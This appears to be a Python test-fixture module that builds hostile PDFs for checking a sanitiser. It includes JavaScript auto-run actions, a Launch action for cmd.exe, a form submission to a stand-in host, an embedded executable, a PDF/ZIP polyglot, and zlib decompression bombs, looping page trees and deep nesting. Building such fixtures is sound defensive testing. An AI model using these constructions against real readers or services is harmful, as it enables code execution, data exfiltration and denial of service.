"""PDFs that run, call, carry, remember or swell."""

import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.vault.hostile import pictures

SECRET = pictures.SECRET
SCRIPT = 'app.launchURL("https://contoh.invalid/")'


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    """The bytes of a PDF."""
    file = BytesIO()
    pdf.save(file, **options)
    return file.getvalue()


def blank(pages: int = 1) -> pikepdf.Pdf:
    """A PDF of empty pages."""
    pdf = pikepdf.Pdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 200))
    return pdf


def script() -> Dictionary:
    """An action that runs JavaScript."""
    return Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


def armed() -> bytes:
    """A PDF with scripts, actions, links, attachments, a form with XFA, notes and metadata."""
    pdf = blank(2)
    page = pdf.pages[0].obj
    pdf.attachments["rahasia.exe"] = b"MZ" + SECRET.encode()
    pdf.Root.Names.JavaScript = Dictionary(Names=Array([String("a"), script()]))
    pdf.Root.OpenAction = script()
    pdf.Root.AA = Dictionary(WC=script())
    pdf.Root.URI = Dictionary(Base=String("https://contoh.invalid/"))
    look = Stream(pdf, b"0 1 0 rg 0 0 40 20 re f % filled in by hand")
    look.update(Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 40, 20])))
    text = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("nama"),
        V=String("isi"),
        F=4,
        Rect=Array([10, 10, 50, 30]),
        AP=Dictionary(N=look),
        AA=Dictionary(K=script()),
    )
    field = pdf.make_indirect(text)
    submit = Dictionary(S=Name.SubmitForm, F=String("https://contoh.invalid/kirim"))
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Next=script())
    links = [Dictionary(S=Name.URI, URI=String("https://contoh.invalid/")), launch, submit]
    page.Annots = Array(
        [field]
        + [
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=link)
            for link in links
        ]
        + [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Text,
                Rect=Array([0, 0, 9, 9]),
                T=String(SECRET),
                Contents=String("catatan"),
            )
        ]
    )
    page.AA = Dictionary(O=script())
    page.Thumb = Stream(pdf, b"thumbnail")
    page.PieceInfo = Dictionary(App=Dictionary(Private=String(SECRET)))
    page.LastModified = String("D:20260101")
    page.Metadata = Stream(pdf, pictures.XMP)
    page.Resources = Dictionary(
        Properties=Dictionary(
            M=Dictionary(Metadata=Stream(pdf, pictures.XMP), Next=Array([script(), launch]))
        )
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), XFA=Stream(pdf, b"<xdp>" + pictures.XMP), CO=Array([field])
    )
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=Dictionary(A=script())))
    pdf.Root.Metadata = Stream(pdf, pictures.XMP)
    pdf.docinfo["/Author"] = SECRET
    pdf.trailer["/DocChecksum"] = Name("/" + SECRET.replace(" ", ""))
    pdf.trailer["/ID"] = Array([String(SECRET), String(SECRET)])
    return saved(pdf, compress_streams=False)


def image(pdf: pikepdf.Pdf, data: bytes, *filters: Name, width: int = 80) -> Stream:
    """A picture inside a PDF."""
    stream = Stream(pdf, data)
    stream.update(
        Dictionary(
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=width,
            Height=40,
            ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=Array(list(filters)) if len(filters) > 1 else filters[0],
        )
    )
    return stream


def with_pictures(*made: Callable[[pikepdf.Pdf], Stream]) -> bytes:
    """A PDF whose one page shows these pictures."""
    pdf = blank()
    page = pdf.pages[0].obj
    names = [f"/Im{number}" for number in range(len(made))]
    page.Resources = Dictionary(XObject=Dictionary())
    for name, make in zip(names, made, strict=True):
        page.Resources.XObject[name] = make(pdf)
    page.Contents = Stream(pdf, " ".join(f"q 9 0 0 9 0 0 cm {n} Do Q" for n in names).encode())
    return saved(pdf)


def inline_photo() -> bytes:
    """A PDF that has a photo in the middle of its page content."""
    pdf = blank()
    photo = b"BI /W 80 /H 40 /CS /RGB /BPC 8 /F /DCT ID " + pictures.jpeg() + b" EI"
    pdf.pages[0].obj.Contents = Stream(pdf, photo)
    return saved(pdf)


def locked(password: str) -> bytes:
    """An encrypted PDF; an empty password opens in any reader and still is encrypted."""
    return saved(blank(), encryption=pikepdf.Encryption(owner="pemilik", user=password))


def with_zip_behind() -> bytes:
    """A PDF that is a ZIP archive too."""
    archive = BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("buka.exe", b"MZ" + SECRET.encode())
    return saved(blank()) + archive.getvalue()


@cache
def swelling(size: int) -> bytes:
    """A zlib stream (RFC 1950) of zeros, a thousandth of the size that it inflates to."""
    block = 16 * 1024 * 1024
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(block)) + packer.flush(zlib.Z_FULL_FLUSH)
    count = size // block
    check = (count * block % 65_521) << 16 | 1
    return b"\x78\xda" + piece * count + b"\x03\x00" + check.to_bytes(4)


def written(objects: dict[int, bytes], extra: bytes = b"") -> bytes:
    """A PDF written by hand; `extra` goes into its cross-reference stream's dictionary."""
    out, places = bytearray(b"%PDF-1.5\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    top = max(objects) + 1
    rows = bytearray(b"\x00" * 7)
    for number in range(1, top):
        if number in places:
            rows += b"\x01" + places[number].to_bytes(4) + b"\x00\x00"
        else:  # the first object inside object stream 2
            rows += b"\x02" + (2).to_bytes(4) + b"\x00\x00"
    start = len(out)
    out += b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Length %d%s>>\nstream\n" % (
        top,
        top,
        len(rows),
        extra,
    )
    return bytes(out + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start)


def flate(dictionary: bytes, data: bytes) -> bytes:
    """A stream object with data that is deflated already."""
    return (
        b"<<%s/Filter/FlateDecode/Length %d>>\nstream\n" % (dictionary, len(data))
        + data
        + b"\nendstream"
    )


def object_stream_bomb(size: int) -> bytes:
    """A PDF whose page tree lies in an object stream that inflates to `size` bytes."""
    return written(
        {
            1: b"<</Type/Catalog/Pages 3 0 R>>",
            2: flate(b"/Type/ObjStm/N 1/First 5", swelling(size)),
            4: b"<<>>",
        }
    )


def content_bomb(size: int, pages: int = 1) -> bytes:
    """A PDF whose pages each have a content that inflates to `size` bytes."""
    kids = range(10, 10 + pages)
    objects = {1: b"<</Type/Catalog/Pages 3 0 R>>", 2: b"<<>>"}
    listed = b" ".join(b"%d 0 R" % kid for kid in kids)
    objects[3] = b"<</Type/Pages/Count %d/Kids[%s]/MediaBox[0 0 9 9]>>" % (pages, listed)
    objects |= dict.fromkeys(range(4, 10), b"<<>>")
    for kid in kids:
        objects[kid] = b"<</Type/Page/Parent 3 0 R/Contents %d 0 R>>" % (kid + pages)
    packed = swelling(size)
    for kid in kids:
        objects[kid + pages] = flate(b"", packed)
    return written(objects)


def image_bomb(size: int) -> bytes:
    """A PDF with a small picture whose data inflate to `size` bytes."""
    return with_pictures(lambda pdf: image(pdf, swelling(size), Name.FlateDecode))


def looping() -> bytes:
    """A PDF whose page tree bites its own tail."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count 9/Kids[3 0 R 2 0 R]>>",
        3: b"<</Type/Pages/Count 9/Kids[2 0 R 3 0 R]/Parent 2 0 R>>",
    }
    return written(objects)


def nested(depth: int) -> bytes:
    """A PDF with arrays inside arrays."""
    return written(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/OCProperties " + b"[" * depth + b"]" * depth + b">>",
            2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        }
    )
